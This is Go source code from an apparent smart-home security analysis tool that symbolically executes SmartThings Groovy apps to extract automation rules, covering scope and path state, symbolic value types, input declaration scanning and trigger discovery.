// scope is one lexical scope in the chain.
type scope struct {
	vars   map[string]value
	parent *scope
}

func newScope(parent *scope) *scope {
	return &scope{vars: map[string]value{}, parent: parent}
}

func (s *scope) get(name string) (value, bool) {
	for sc := s; sc != nil; sc = sc.parent {
		if v, ok := sc.vars[name]; ok {
			return v, true
		}
	}
	return nil, false
}

// set assigns to the scope where name is defined, or defines it locally.
func (s *scope) set(name string, v value) {
	for sc := s; sc != nil; sc = sc.parent {
		if _, ok := sc.vars[name]; ok {
			sc.vars[name] = v
			return
		}
	}
	s.vars[name] = v
}

// define creates name in this scope.
func (s *scope) define(name string, v value) { s.vars[name] = v }

// clone deep-copies the scope chain (maps copied, values shared).
func (s *scope) clone() *scope {
	if s == nil {
		return nil
	}
	c := &scope{vars: make(map[string]value, len(s.vars)), parent: s.parent.clone()}
	for k, v := range s.vars {
		c.vars[k] = v
	}
	return c
}

// state is one symbolic execution path.
type state struct {
	env     *scope
	data    []rule.DataConstraint
	preds   []rule.Constraint
	trigger rule.Trigger
	when    int // accumulated runIn delay (seconds); -1 when symbolic
	period  int
	depth   int  // method-inlining depth
	ret     bool // a return statement ended the current method
	retVal  value
}

func newState(tr rule.Trigger) *state {
	return &state{env: newScope(nil), trigger: tr}
}

// fork clones the path state (environment copied, constraint slices
// shared-then-appended safely via full copies).
func (st *state) fork() *state {
	c := &state{
		env:     st.env.clone(),
		data:    append([]rule.DataConstraint(nil), st.data...),
		preds:   append([]rule.Constraint(nil), st.preds...),
		trigger: st.trigger,
		when:    st.when,
		period:  st.period,
		depth:   st.depth,
	}
	return c
}

// assume appends a path predicate.
func (st *state) assume(c rule.Constraint) {
	if c == nil {
		return
	}
	if lit, ok := c.(rule.Lit); ok && bool(lit) {
		return
	}
	st.preds = append(st.preds, c)
}

// bind records a data constraint var := term and updates the environment.
func (st *state) bind(name string, t rule.Term) {
	st.data = append(st.data, rule.DataConstraint{Var: name, Term: t})
	st.env.set(name, termVal{t: t})
}

// asTerm converts a value to a rule term when possible.
func asTerm(v value) (rule.Term, bool) {
	switch x := v.(type) {
	case termVal:
		return x.t, true
	case devStateVal:
		return deviceAttrVar(x.dev, x.attr, x.typ), true
	case boolVal:
		// A formula used as a value has no term representation.
		return nil, false
	}
	return nil, false
}

// asConstraint converts a value used in boolean context into a formula.
// Unknown values yield (nil, false): the caller explores both branches
// unconstrained.
func asConstraint(v value) (rule.Constraint, bool) {
	switch x := v.(type) {
	case boolVal:
		return x.c, true
	case termVal:
		switch t := x.t.(type) {
		case rule.BoolVal:
			return rule.Lit(bool(t)), true
		case rule.Var:
			if t.Type == rule.TypeBool {
				return rule.Cmp{Op: rule.OpEq, L: t, R: rule.BoolVal(true)}, true
			}
			// Groovy truth on a symbolic non-bool value: unknown.
			return nil, false
		case rule.StrVal:
			return rule.Lit(string(t) != ""), true
		case rule.IntVal:
			return rule.Lit(int64(t) != 0), true
		}
	}
	return nil, false
}
