package symexec

import (
	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// value is a symbolic value flowing through the interpreter.
type value interface{ isValue() }

// termVal wraps a solver-tracked term (variable or constant).
type termVal struct{ t rule.Term }

// boolVal is a boolean-valued expression represented as a formula.
type boolVal struct{ c rule.Constraint }

// deviceVal is a device reference (or device collection) granted via input.
type deviceVal struct{ in *InputDecl }

// eventVal is the event object passed to a handler.
type eventVal struct{}

// devStateVal is the object returned by device.currentState("attr"): its
// .value property reads the attribute.
type devStateVal struct {
	dev  string
	attr string
	typ  rule.ValueType
}

// listVal is a (partially) known list.
type listVal struct{ elems []value }

// mapVal is a (partially) known map.
type mapVal struct{ entries map[string]value }

// closureVal is a closure literal with its defining scope.
type closureVal struct {
	cl  *groovy.ClosureExpr
	env *scope
}

// locationVal is the `location` object.
type locationVal struct{}

// stateVal is the `state` / `atomicState` object (cross-execution storage,
// treated as symbolic input on first read).
type stateVal struct{ atomic bool }

// unknownVal is a value the executor cannot track; operations on it
// degrade gracefully. The label is static documentation for debugger
// inspection — nothing reads it, so hot paths share pre-boxed singletons
// instead of rendering per-site detail.
type unknownVal struct{ why string }

func (termVal) isValue()     {}
func (boolVal) isValue()     {}
func (deviceVal) isValue()   {}
func (eventVal) isValue()    {}
func (devStateVal) isValue() {}
func (listVal) isValue()     {}
func (mapVal) isValue()      {}
func (closureVal) isValue()  {}
func (locationVal) isValue() {}
func (stateVal) isValue()    {}
func (unknownVal) isValue()  {}

// Pre-boxed singletons for the static values the evaluator returns on hot
// paths: boxing a struct into the value interface allocates, and these
// carry no per-site information.
var (
	unkExpr                value = unknownVal{"expr"}
	unkRange               value = unknownVal{"range"}
	unkTernary             value = unknownVal{"ternary"}
	unkIndex               value = unknownVal{"index"}
	unkElement             value = unknownVal{"element"}
	unkInterpString        value = unknownVal{"interpolated string"}
	unkArg                 value = unknownVal{"arg"}
	unkClosureArg          value = unknownVal{"closure arg"}
	unkIter                value = unknownVal{"iter"}
	unkHTTPResponse        value = unknownVal{"http response"}
	unkUninit              value = unknownVal{"uninitialised"}
	unkImplicitIt          value = unknownVal{"implicit it"}
	unkAppObject           value = unknownVal{"app object"}
	unkLNotUnknown         value = unknownVal{"!unknown"}
	unkLAndAnd             value = unknownVal{"&&"}
	unkLAggregate          value = unknownVal{"aggregate"}
	unkLArith              value = unknownVal{"arith"}
	unkLBinop              value = unknownVal{"binop"}
	unkLCapabilityQuery    value = unknownVal{"capability query"}
	unkLCmp                value = unknownVal{"cmp"}
	unkLCommandResult      value = unknownVal{"command result"}
	unkLContains           value = unknownVal{"contains"}
	unkLCurrentstate       value = unknownVal{"currentState"}
	unkLCurrentvalue       value = unknownVal{"currentValue"}
	unkLDepthLimit         value = unknownVal{"depth limit"}
	unkLEquals             value = unknownVal{"equals"}
	unkLEvtDate            value = unknownVal{"evt.date"}
	unkLEvtDevice          value = unknownVal{"evt.device"}
	unkLEvtDisplayname     value = unknownVal{"evt.displayName"}
	unkLHistoryQuery       value = unknownVal{"history query"}
	unkLIn                 value = unknownVal{"in"}
	unkLIterResult         value = unknownVal{"iter result"}
	unkLLocationModes      value = unknownVal{"location.modes"}
	unkLMath               value = unknownVal{"math"}
	unkLMult               value = unknownVal{"mult"}
	unkLNegate             value = unknownVal{"negate"}
	unkLParsedPayload      value = unknownVal{"parsed payload"}
	unkLSetmode            value = unknownVal{"setMode"}
	unkLSinkResult         value = unknownVal{"sink result"}
	unkLStringPredicate    value = unknownVal{"string predicate"}
	unkLSum                value = unknownVal{"sum"}
	unkLTimeofdayisbetween value = unknownVal{"timeOfDayIsBetween"}
	unkLTimetoday          value = unknownVal{"timeToday"}
	unkLTts                value = unknownVal{"tts"}
	unkLUnary              value = unknownVal{"unary"}
	unkLOrOr               value = unknownVal{"||"}

	valEvent           value = eventVal{}
	valLocation        value = locationVal{}
	valState           value = stateVal{}
	valAtomicState     value = stateVal{atomic: true}
	valTrue            value = termVal{rule.BoolVal(true)}
	valFalse           value = termVal{rule.BoolVal(false)}
	unkIdent           value = unknownVal{"ident"}
	unkLocationProp    value = unknownVal{"location property"}
	unkMapProp         value = unknownVal{"map property"}
	unkDeviceStateProp value = unknownVal{"deviceState property"}
	unkProp            value = unknownVal{"property"}
	unkEventProp       value = unknownVal{"event property"}
	unkDeviceProp      value = unknownVal{"device property"}
	unkDeviceCall      value = unknownVal{"device call"}
	unkCall            value = unknownVal{"call"}
	unkLocationCall    value = unknownVal{"location call"}
	unkScalarCall      value = unknownVal{"scalar call"}
	unkAPICall         value = unknownVal{"api call"}
	unkNew             value = unknownVal{"new"}
	valNow             value = termVal{rule.Var{Name: "env.now", Kind: rule.VarEnvFeature, Type: rule.TypeInt}}
	valLocationMode    value = termVal{rule.Var{Name: "location.mode", Kind: rule.VarDeviceAttr, Type: rule.TypeString}}
)

// scope is one lexical scope in the chain.
//
// Scopes are copy-on-write across path forks: fork marks every frame of
// the chain frozen and shares the chain between the two paths, and the
// first write a path performs through a frozen frame copies just the
// frames between its leaf and the written frame (usually only the leaf).
// Unfrozen frames always form a prefix of the chain — a frame is only ever
// unfrozen when every frame below it is too — so freezing can stop at the
// first frozen frame. A frozen frame is immutable forever: paths that
// copied it keep reading the original through their copies' parent links.
type scope struct {
	vars   map[string]value
	parent *scope
	frozen bool
}

// newScope returns a fresh frame; its vars map is created on first write
// (many frames — loop bodies, argument-less closures — never get one).
func newScope(parent *scope) *scope {
	return &scope{parent: parent}
}

// define creates name directly in this frame. Only safe on a frame that
// is known to be private (freshly created, never forked); forked states
// must write through state.setVar/defineVar so copy-on-write applies.
func (s *scope) define(name string, v value) {
	if s.vars == nil {
		s.vars = make(map[string]value, 4)
	}
	s.vars[name] = v
}

func (s *scope) get(name string) (value, bool) {
	for sc := s; sc != nil; sc = sc.parent {
		if v, ok := sc.vars[name]; ok {
			return v, true
		}
	}
	return nil, false
}

// thaw returns a mutable copy of a frozen frame (same vars, same parent).
func (s *scope) thaw() *scope {
	c := &scope{vars: make(map[string]value, len(s.vars)+1), parent: s.parent}
	for k, v := range s.vars {
		c.vars[k] = v
	}
	return c
}

// state is one symbolic execution path.
//
// The constraint slices are shared with the path's fork siblings up to the
// fork point: fork caps both sides' slices at their current length, so the
// first append after a fork reallocates instead of clobbering a sibling's
// shared backing array.
type state struct {
	env     *scope
	data    []rule.DataConstraint
	preds   []rule.Constraint
	trigger rule.Trigger
	when    int // accumulated runIn delay (seconds); -1 when symbolic
	period  int
	depth   int  // method-inlining depth
	ret     bool // a return statement ended the current method
	retVal  value
	// mult counts how many identical explored paths this state stands for:
	// indistinguishable fork siblings are merged (see mergeAdjacent) and
	// re-expanded at rule emission and path counting.
	mult int
}

func newState(tr rule.Trigger) *state {
	return &state{env: newScope(nil), trigger: tr, mult: 1}
}

// fork clones the path state in O(scope depth): the environment chain is
// frozen and shared (copy-on-write), and the constraint slices are capped
// so both sides copy lazily on their next append.
func (st *state) fork() *state {
	for sc := st.env; sc != nil && !sc.frozen; sc = sc.parent {
		sc.frozen = true
	}
	st.data = st.data[:len(st.data):len(st.data)]
	st.preds = st.preds[:len(st.preds):len(st.preds)]
	return &state{
		env:     st.env,
		data:    st.data,
		preds:   st.preds,
		trigger: st.trigger,
		when:    st.when,
		period:  st.period,
		depth:   st.depth,
		mult:    st.mult,
	}
}

// setVar assigns to the scope frame where name is defined, or defines it
// in the leaf frame, copying frozen frames on the way (copy-on-write).
func (st *state) setVar(name string, v value) {
	// Find the defining frame's depth.
	d := 0
	found := false
	for sc := st.env; sc != nil; sc = sc.parent {
		if _, ok := sc.vars[name]; ok {
			found = true
			break
		}
		d++
	}
	if !found {
		d = 0
	}
	st.frameAt(d).define(name, v)
}

// defineVar creates name in the leaf frame.
func (st *state) defineVar(name string, v value) {
	st.frameAt(0).define(name, v)
}

// frameAt returns the frame at depth d, thawing the frozen frames on the
// path from the leaf so the returned frame is mutable and private.
func (st *state) frameAt(d int) *scope {
	sc := st.env
	if !sc.frozen && d == 0 {
		return sc // fast path: private leaf write
	}
	var prev *scope
	for i := 0; ; i++ {
		if sc.frozen {
			c := sc.thaw()
			if prev == nil {
				st.env = c
			} else {
				prev.parent = c
			}
			sc = c
		}
		if i == d {
			return sc
		}
		prev = sc
		sc = sc.parent
	}
}

// assume appends a path predicate.
func (st *state) assume(c rule.Constraint) {
	if c == nil {
		return
	}
	if lit, ok := c.(rule.Lit); ok && bool(lit) {
		return
	}
	st.preds = append(st.preds, c)
}

// bind records a data constraint var := term and updates the environment.
func (st *state) bind(name string, t rule.Term) {
	st.data = append(st.data, rule.DataConstraint{Var: name, Term: t})
	st.setVar(name, termVal{t: t})
}

// sameFork reports whether two states are indistinguishable by
// construction: they share the environment chain (no write since their
// common fork), the same constraint-slice backing at the same length, and
// the same scalar path attributes. Such states explore identical suffixes.
func sameFork(a, b *state) bool {
	return a.env == b.env &&
		a.ret == b.ret && a.retVal == nil && b.retVal == nil &&
		a.when == b.when && a.period == b.period && a.depth == b.depth &&
		sameSlice(a.data, b.data) && samePreds(a.preds, b.preds)
}

func sameSlice(a, b []rule.DataConstraint) bool {
	if len(a) != len(b) {
		return false
	}
	return len(a) == 0 || &a[0] == &b[0]
}

func samePreds(a, b []rule.Constraint) bool {
	if len(a) != len(b) {
		return false
	}
	return len(a) == 0 || &a[0] == &b[0]
}

// asTerm converts a value to a rule term when possible.
func asTerm(v value) (rule.Term, bool) {
	switch x := v.(type) {
	case termVal:
		return x.t, true
	case devStateVal:
		return deviceAttrVar(x.dev, x.attr, x.typ), true
	case boolVal:
		// A formula used as a value has no term representation.
		return nil, false
	}
	return nil, false
}

// asConstraint converts a value used in boolean context into a formula.
// Unknown values yield (nil, false): the caller explores both branches
// unconstrained.
func asConstraint(v value) (rule.Constraint, bool) {
	switch x := v.(type) {
	case boolVal:
		return x.c, true
	case termVal:
		switch t := x.t.(type) {
		case rule.BoolVal:
			return rule.Lit(bool(t)), true
		case rule.Var:
			if t.Type == rule.TypeBool {
				return rule.Cmp{Op: rule.OpEq, L: t, R: rule.BoolVal(true)}, true
			}
			// Groovy truth on a symbolic non-bool value: unknown.
			return nil, false
		case rule.StrVal:
			return rule.Lit(string(t) != ""), true
		case rule.IntVal:
			return rule.Lit(int64(t) != 0), true
		}
	}
	return nil, false
}
