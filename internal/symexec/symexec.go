// Package symexec implements symbolic execution over SmartApp Groovy ASTs
// to extract automation rules completely and precisely (Sec. V-B of the
// paper). It explores every execution path from the lifecycle entry points
// (installed/updated), treating device references, user inputs, device
// attribute reads, HTTP responses and State as symbolic inputs; each path
// ends at a sink (capability-protected device command or sensitive
// SmartThings API), yielding one trigger–condition–action rule.
package symexec

import (
	"fmt"
	"slices"
	"strings"
	"sync"

	"homeguard/internal/capability"
	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// InputDecl describes one `input` declaration (a symbolic source bound at
// install time).
type InputDecl struct {
	Name       string
	Type       string // raw type string: "capability.switch", "number", "enum", ...
	Capability string // capability name when Type is a capability grant
	Multiple   bool
	Required   bool
	Title      string
	Options    []string  // enum options when declared
	Default    rule.Term // defaultValue when declared
}

// IsDevice reports whether the input grants device access.
func (d *InputDecl) IsDevice() bool { return d.Capability != "" }

// AppInfo is the metadata gathered from definition() and preferences.
type AppInfo struct {
	Name        string
	Namespace   string
	Description string
	Category    string
	Inputs      []InputDecl
}

// Input returns the named input declaration, or nil.
func (a *AppInfo) Input(name string) *InputDecl {
	for i := range a.Inputs {
		if a.Inputs[i].Name == name {
			return &a.Inputs[i]
		}
	}
	return nil
}

// DeviceInputs returns the inputs that grant device capabilities.
func (a *AppInfo) DeviceInputs() []*InputDecl {
	var out []*InputDecl
	for i := range a.Inputs {
		if a.Inputs[i].IsDevice() {
			out = append(out, &a.Inputs[i])
		}
	}
	return out
}

// ValueInputs returns the non-device inputs (user-provided values).
func (a *AppInfo) ValueInputs() []*InputDecl {
	var out []*InputDecl
	for i := range a.Inputs {
		if !a.Inputs[i].IsDevice() {
			out = append(out, &a.Inputs[i])
		}
	}
	return out
}

// Result is the output of rule extraction on one app.
//
// A Result is immutable once Extract returns: the executor hands it off
// and nothing in this module writes to it (or to the Rules and Inputs it
// points at) afterwards — detection only reads rule structure. That makes
// a Result safe to share across goroutines and across homes without
// copying, which internal/extractcache exploits to run symbolic execution
// once per distinct app fleet-wide. Code that needs a modified variant
// must build a new Result rather than editing a shared one.
type Result struct {
	App      AppInfo
	Rules    *rule.RuleSet
	Warnings []string
	Paths    int // number of explored execution paths
}

// Limits bound the symbolic exploration. Zero values select defaults.
type Limits struct {
	MaxPaths     int // maximum explored paths per app (default 4096)
	MaxCallDepth int // maximum method-inlining depth (default 24)
}

func (l Limits) withDefaults() Limits {
	if l.MaxPaths == 0 {
		l.MaxPaths = 4096
	}
	if l.MaxCallDepth == 0 {
		l.MaxCallDepth = 24
	}
	return l
}

// ScanPreferences parses only the metadata of a script: definition()
// fields and input declarations. The concrete interpreter and the
// instrumenter reuse it.
func ScanPreferences(script *groovy.Script) AppInfo {
	ex := newExecutor(script, Limits{})
	ex.scanPreferences()
	return ex.app
}

// executorPool recycles executor shells across extractions. Everything a
// Result references (app info, rules, warnings) is abandoned at release;
// the reusable parts are the maps (cleared, keeping capacity) and the
// scratch/state buffers.
var executorPool sync.Pool

// newExecutor is the one construction path for executors: every entry
// point (full extraction, preference scanning, the shallow baseline) goes
// through it, so limit defaults are applied in exactly one place and
// cannot drift between extraction modes.
func newExecutor(script *groovy.Script, lim Limits) *executor {
	ex, _ := executorPool.Get().(*executor)
	if ex == nil {
		ex = &executor{}
	}
	ex.script = script
	ex.lim = lim.withDefaults()
	return ex
}

// release returns the executor shell to the pool. Callers must be done
// with every field that escapes into the Result (they are abandoned, not
// reused; only map capacity and scratch buffers survive).
func (ex *executor) release() {
	ex.script = nil
	ex.app = AppInfo{}
	ex.rules = nil
	ex.warns = nil
	ex.paths = 0
	clear(ex.inputs)
	clear(ex.inputVals)
	clear(ex.litMemo)
	ex.settingsVal = mapVal{}
	ex.trigScratch = ex.trigScratch[:0]
	ex.condScratch = ex.condScratch[:0]
	executorPool.Put(ex)
}

// Extract parses src and extracts rules. appName overrides the name from
// definition() when non-empty.
func Extract(src, appName string) (*Result, error) {
	script, err := groovy.Parse(src)
	if err != nil {
		return nil, fmt.Errorf("symexec: %w", err)
	}
	return ExtractScript(script, appName, Limits{})
}

// ExtractScript extracts rules from a parsed script.
func ExtractScript(script *groovy.Script, appName string, lim Limits) (*Result, error) {
	ex := newExecutor(script, lim)
	ex.scanPreferences()
	if appName != "" {
		ex.app.Name = appName
	}
	if ex.app.Name == "" {
		ex.app.Name = "app"
	}
	ex.run()
	rs := &rule.RuleSet{App: ex.app.Name, Rules: ex.rules}
	rs.NumberRules()
	slices.Sort(ex.warns)
	res := &Result{App: ex.app, Rules: rs, Warnings: dedupe(ex.warns), Paths: ex.paths}
	ex.release()
	return res, nil
}

// dedupe drops duplicates from a sorted list (callers sort first, so
// duplicates are adjacent), returning nil for an empty input.
func dedupe(in []string) []string {
	var out []string
	for _, s := range in {
		if len(out) == 0 || out[len(out)-1] != s {
			out = append(out, s)
		}
	}
	return out
}

// executor drives the symbolic exploration of one app.
type executor struct {
	script *groovy.Script
	app    AppInfo
	inputs map[string]*InputDecl
	lim    Limits

	rules []*rule.Rule
	warns []string
	paths int

	// Per-executor memo tables and scratch buffers; extraction of one app
	// is single-goroutine, so none of these need locking.
	inputVals   map[*InputDecl]value  // symbolic value per input, built lazily
	litMemo     map[groovy.Expr]value // boxed literal values per AST node
	settingsVal mapVal                // the `settings` object, built lazily
	trigScratch []rule.Constraint
	condScratch []rule.Constraint
	stateBufs   [][]*state // recycled execBlock state lists
	endsScratch []*state   // recycled per-handler terminal-state list
}

func (ex *executor) warnf(format string, args ...any) {
	if len(args) == 0 {
		// Constant diagnostics (the common case on hot paths) skip the
		// formatter entirely.
		ex.warns = append(ex.warns, format)
		return
	}
	ex.warns = append(ex.warns, fmt.Sprintf(format, args...))
}

// scanPreferences collects definition() metadata and input declarations
// in one AST pass (FindCalls per call name walked the script once per
// name and allocated the intermediate call lists). Duplicate input names
// are rejected by a linear scan — apps declare a handful of inputs, so a
// set would cost more than it saves.
func (ex *executor) scanPreferences() {
	groovy.InspectScript(ex.script, func(n groovy.Node) bool {
		call, ok := n.(*groovy.Call)
		if !ok {
			return true
		}
		switch call.Method {
		case "definition":
			if v := stringArg(call.NamedArg("name")); v != "" {
				ex.app.Name = v
			}
			if v := stringArg(call.NamedArg("namespace")); v != "" {
				ex.app.Namespace = v
			}
			if v := stringArg(call.NamedArg("description")); v != "" {
				ex.app.Description = v
			}
			if v := stringArg(call.NamedArg("category")); v != "" {
				ex.app.Category = v
			}
		case "input":
			decl, ok := parseInputCall(call)
			if ok {
				dup := false
				for i := range ex.app.Inputs {
					if ex.app.Inputs[i].Name == decl.Name {
						dup = true
						break
					}
				}
				if !dup {
					if ex.app.Inputs == nil {
						ex.app.Inputs = make([]InputDecl, 0, 8)
					}
					ex.app.Inputs = append(ex.app.Inputs, decl)
				}
			}
		}
		return true
	})
	// Point the lookup map at the final slice backing array.
	if ex.inputs == nil {
		ex.inputs = make(map[string]*InputDecl, len(ex.app.Inputs))
	}
	for i := range ex.app.Inputs {
		ex.inputs[ex.app.Inputs[i].Name] = &ex.app.Inputs[i]
	}
}

func parseInputCall(in *groovy.Call) (InputDecl, bool) {
	// input "name", "type", named...  (or named-only form with name:/type:)
	var name, typ string
	if len(in.Args) >= 1 {
		name = stringArg(in.Args[0])
	}
	if len(in.Args) >= 2 {
		typ = stringArg(in.Args[1])
	}
	if name == "" {
		name = stringArg(in.NamedArg("name"))
	}
	if typ == "" {
		typ = stringArg(in.NamedArg("type"))
	}
	if name == "" || typ == "" {
		return InputDecl{}, false
	}
	decl := InputDecl{Name: name, Type: typ, Title: stringArg(in.NamedArg("title"))}
	if strings.HasPrefix(typ, "capability.") {
		decl.Capability = strings.TrimPrefix(typ, "capability.")
	} else if strings.HasPrefix(typ, "device.") {
		// Non-standard device types (the paper's Feed My Pet / Sleepy Time
		// special cases) — treated as a generic actuator capability.
		decl.Capability = strings.TrimPrefix(typ, "device.")
		if _, ok := capability.Get(decl.Capability); !ok {
			decl.Capability = "switch"
		}
	}
	if b, ok := boolArg(in.NamedArg("multiple")); ok {
		decl.Multiple = b
	}
	if b, ok := boolArg(in.NamedArg("required")); ok {
		decl.Required = b
	}
	if opts := in.NamedArg("options"); opts != nil {
		if l, ok := opts.(*groovy.ListLit); ok {
			for _, e := range l.Elems {
				if s := stringArg(e); s != "" {
					decl.Options = append(decl.Options, s)
				}
			}
		}
	}
	if dv := in.NamedArg("defaultValue"); dv != nil {
		decl.Default = litTerm(dv)
	}
	return decl, true
}

// stringArg extracts a constant string from an expression, or "".
func stringArg(e groovy.Expr) string {
	switch x := e.(type) {
	case *groovy.StrLit:
		return x.Value
	case *groovy.GStringLit:
		if x.IsPlain() {
			return x.PlainText()
		}
	}
	return ""
}

func boolArg(e groovy.Expr) (bool, bool) {
	if b, ok := e.(*groovy.BoolLit); ok {
		return b.Value, true
	}
	return false, false
}

// litTerm converts a literal expression to a rule term, or nil.
func litTerm(e groovy.Expr) rule.Term {
	switch x := e.(type) {
	case *groovy.StrLit:
		return rule.StrVal(x.Value)
	case *groovy.GStringLit:
		if x.IsPlain() {
			return rule.StrVal(x.PlainText())
		}
	case *groovy.NumLit:
		if x.IsInt {
			return rule.IntVal(x.Int)
		}
		return rule.IntVal(int64(x.Float)) // integral approximation
	case *groovy.BoolLit:
		return rule.BoolVal(x.Value)
	}
	return nil
}

// run discovers triggers from the entry points and symbolically executes
// each handler.
func (ex *executor) run() {
	triggers := ex.collectTriggers()
	for _, tr := range triggers {
		h := ex.script.Method(tr.handler)
		if h == nil {
			ex.warnf("handler %s not found", tr.handler)
			continue
		}
		st := newState(tr.trigger)
		st.period = tr.period
		// Bind the handler's event parameter.
		if len(h.Params) > 0 {
			st.env.define(h.Params[0].Name, valEvent)
		}
		ends := ex.execBlock(h.Body.Stmts, st, ex.endsScratch[:0])
		ex.paths += countMult(ends)
		ex.endsScratch = ends
	}
}

// discoveredTrigger pairs a trigger with its handler method name.
type discoveredTrigger struct {
	trigger rule.Trigger
	handler string
	period  int
	// rawAttr is the subscription's raw attribute argument (including a
	// ".value" constraint suffix when present): the dedup key component
	// that distinguishes triggers without rendering their constraint.
	rawAttr string
}

// collectTriggers abstractly evaluates the lifecycle entry points,
// inlining helper calls, to find subscribe()/schedule()/runEvery*() calls.
// Only `updated` (falling back to `installed`) is evaluated, mirroring the
// app lifecycle: updated() re-subscribes everything.
// trigKey identifies a discovered trigger without string concatenation or
// constraint rendering (the former concatenated map keys allocated per
// subscribe call visited). The attribute field carries the subscription's
// raw attribute argument, whose optional ".value" suffix encodes the
// trigger constraint one-to-one.
type trigKey struct {
	subject   string
	attribute string
	handler   string
}

func (ex *executor) collectTriggers() []discoveredTrigger {
	out := make([]discoveredTrigger, 0, 4)
	seen := make(map[trigKey]bool, 4)
	entry := ex.script.Method("updated")
	if entry == nil {
		entry = ex.script.Method("installed")
	}
	if entry == nil {
		ex.warnf("no lifecycle entry point (installed/updated)")
		return nil
	}
	// One shared visitor closure: helper inlining recurses by re-invoking
	// groovy.Inspect with the same callback around a saved/restored depth,
	// instead of building a fresh closure per visited method.
	depth := 0
	var visit func(n groovy.Node) bool
	walkMethod := func(m *groovy.MethodDecl) {
		groovy.Inspect(m.Body, visit)
	}
	visit = func(n groovy.Node) bool {
		call, ok := n.(*groovy.Call)
		if !ok {
			return true
		}
		switch call.Method {
		case "subscribe":
			if tr, ok := ex.parseSubscribe(call); ok {
				key := trigKey{subject: tr.trigger.Subject, attribute: tr.rawAttr, handler: tr.handler}
				if !seen[key] {
					seen[key] = true
					out = append(out, tr)
				}
			}
		case "schedule", "runOnce":
			if len(call.Args) >= 2 {
				if h := handlerName(call.Args[1]); h != "" {
					tr := discoveredTrigger{
						trigger: rule.Trigger{Subject: "time", Attribute: "schedule"},
						handler: h,
						period:  86400,
					}
					if call.Method == "runOnce" {
						tr.period = 0
					}
					key := trigKey{subject: "time", handler: h}
					if !seen[key] {
						seen[key] = true
						out = append(out, tr)
					}
				}
			}
		case "runDaily":
			// Undocumented API used by Camera Power Scheduler; modeled
			// after the paper reported adding it (Sec. VIII-B).
			if len(call.Args) >= 1 {
				if h := handlerName(call.Args[0]); h != "" {
					key := trigKey{subject: "time", handler: h}
					if !seen[key] {
						seen[key] = true
						out = append(out, discoveredTrigger{
							trigger: rule.Trigger{Subject: "time", Attribute: "schedule"},
							handler: h,
							period:  86400,
						})
					}
				}
			}
		case "runEvery1Minute", "runEvery5Minutes", "runEvery10Minutes",
			"runEvery15Minutes", "runEvery30Minutes", "runEvery1Hour", "runEvery3Hours":
			if len(call.Args) >= 1 {
				if h := handlerName(call.Args[0]); h != "" {
					key := trigKey{subject: "time", handler: h}
					if !seen[key] {
						seen[key] = true
						out = append(out, discoveredTrigger{
							trigger: rule.Trigger{Subject: "time", Attribute: "schedule"},
							handler: h,
							period:  periodOf(call.Method),
						})
					}
				}
			}
		default:
			// Inline helper methods (initialize() etc.).
			if call.Receiver == nil {
				if m2 := ex.script.Method(call.Method); m2 != nil && depth < ex.lim.MaxCallDepth {
					depth++
					walkMethod(m2)
					depth--
				}
			}
		}
		return true
	}
	walkMethod(entry)
	return out
}

func periodOf(api string) int {
	switch api {
	case "runEvery1Minute":
		return 60
	case "runEvery5Minutes":
		return 300
	case "runEvery10Minutes":
		return 600
	case "runEvery15Minutes":
		return 900
	case "runEvery30Minutes":
		return 1800
	case "runEvery1Hour":
		return 3600
	case "runEvery3Hours":
		return 10800
	}
	return 0
}

func handlerName(e groovy.Expr) string {
	switch x := e.(type) {
	case *groovy.Ident:
		return x.Name
	case *groovy.StrLit:
		return x.Value
	case *groovy.GStringLit:
		if x.IsPlain() {
			return x.PlainText()
		}
	}
	return ""
}

// parseSubscribe decodes one subscribe(...) call into a trigger.
func (ex *executor) parseSubscribe(call *groovy.Call) (discoveredTrigger, bool) {
	if len(call.Args) < 2 {
		return discoveredTrigger{}, false
	}
	var tr rule.Trigger
	// Subject.
	switch subj := call.Args[0].(type) {
	case *groovy.Ident:
		switch subj.Name {
		case "location":
			tr.Subject = "location"
		case "app":
			tr.Subject = "app"
		default:
			in := ex.inputs[subj.Name]
			if in == nil || !in.IsDevice() {
				ex.warnf("subscribe on unknown device %q", subj.Name)
				return discoveredTrigger{}, false
			}
			tr.Subject = subj.Name
			tr.Capability = in.Capability
		}
	default:
		return discoveredTrigger{}, false
	}
	// Attribute (and optional ".value" constraint) + handler.
	var handler string
	var rawAttr string
	if len(call.Args) == 2 {
		// subscribe(app, appTouch) / subscribe(location, modeChangeHandler)
		handler = handlerName(call.Args[1])
		switch tr.Subject {
		case "app":
			tr.Attribute = "touch"
		case "location":
			tr.Attribute = "mode"
		default:
			return discoveredTrigger{}, false
		}
	} else {
		attr := stringArg(call.Args[1])
		rawAttr = attr
		handler = handlerName(call.Args[2])
		if attr == "" {
			ex.warnf("non-constant subscription attribute")
			return discoveredTrigger{}, false
		}
		if dot := strings.IndexByte(attr, '.'); dot >= 0 {
			tr.Attribute = attr[:dot]
			val := attr[dot+1:]
			tr.Constraint = rule.Cmp{
				Op: rule.OpEq,
				L:  eventVar(tr.Subject, tr.Attribute, ex.attrType(tr.Capability, tr.Attribute)),
				R:  rule.StrVal(val),
			}
		} else {
			tr.Attribute = attr
		}
		if tr.Subject == "location" && tr.Attribute == "" {
			tr.Attribute = "mode"
		}
	}
	if handler == "" {
		return discoveredTrigger{}, false
	}
	if rawAttr == "" {
		rawAttr = tr.Attribute // 2-arg forms: the implied attribute
	}
	return discoveredTrigger{trigger: tr, handler: handler, rawAttr: rawAttr}, true
}

// attrType returns the value type of an attribute within a capability
// (falling back to a registry-wide lookup).
func (ex *executor) attrType(capName, attr string) rule.ValueType {
	var a *capability.Attribute
	if c, ok := capability.Get(capName); ok {
		a = c.Attr(attr)
	}
	if a == nil {
		a = capability.AttrByName(attr)
	}
	if a == nil {
		return rule.TypeString
	}
	switch a.Kind {
	case capability.Number:
		return rule.TypeInt
	default:
		return rule.TypeString
	}
}

// eventVar names the symbolic variable carrying the triggering event's
// value: "<subject>.<attribute>". The name is interned: the same
// subject/attribute pair is read on every path of every rule, and the
// detect compile step interns through the same table, so equal names share
// one string fleet-wide instead of being concatenated per evaluation.
func eventVar(subject, attr string, t rule.ValueType) rule.Var {
	return rule.Var{Name: rule.InternDotted(subject, attr), Kind: rule.VarEvent, Type: t}
}

// deviceAttrVar names a device attribute read: "<device>.<attribute>".
func deviceAttrVar(dev, attr string, t rule.ValueType) rule.Var {
	return rule.Var{Name: rule.InternDotted(dev, attr), Kind: rule.VarDeviceAttr, Type: t}
}
